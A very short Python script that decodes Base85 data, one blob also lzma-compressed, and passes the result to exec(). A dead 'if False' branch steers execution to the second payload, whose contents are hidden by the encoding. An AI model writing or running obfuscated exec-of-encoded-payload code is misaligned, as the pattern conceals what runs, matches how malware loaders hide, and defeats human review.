import base64
import lzma

exec(lzma.decompress(base64.b85decode(b"{Wp48S^xk9=GL@E0stWa8~^|S5YJf5;3bbS2+"))) if False else exec(base64.b85decode(b"aA9(DWpi^bX=QURX=W~BXkl(=Wn=-~"))
